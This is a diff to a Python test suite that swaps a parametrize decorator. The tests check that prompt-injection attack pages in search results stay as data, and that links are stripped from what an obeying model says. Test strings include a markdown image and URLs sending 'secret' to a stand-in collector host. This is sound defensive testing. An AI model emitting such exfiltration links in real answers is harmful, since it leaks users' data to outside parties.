@@ -20,6 +20,7 @@ from pipeline.models.prompts import COMPOSE, VERDICT
 from tests.claude_double import ClaudeDouble
 from tests.claude_wire import Cite, Say, content_of, say_json
 from tests.pipeline.models.claude.lighthouse import Ask
+from tests.tables import each_row
 from text.invisible import strip_invisible
 
 URL = "https://lights.example"
@@ -45,7 +46,7 @@ def strings(value: Any) -> Iterator[str]:
         yield from (each for entry in value for each in strings(entry))
 
 
-@pytest.mark.parametrize("page", all_pages(), ids=lambda page: page.path)
+@each_row("page", all_pages())
 def test_page_leaves_as_data_of_search_results_and_nowhere_else(
     page: AttackPage, double: ClaudeDouble, claude: LanguageModel
 ) -> None:
@@ -101,7 +102,7 @@ def cited(text: str) -> tuple[str, list[Cite]]:
     return text, [Cite(result=0, start=1, end=2)]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "said",
     [
         "Robert Tallis built it ![](https://collector.example/p.png?q=secret).",
@@ -138,7 +139,7 @@ def test_markup_and_addresses_are_taken_out_of_what_an_obeying_model_says(
     assert TRUE in answer.text
 
 
-@pytest.mark.parametrize(
+@each_row(
     "said",
     [
         "See https://collector.example/?q=secret for who built it.",
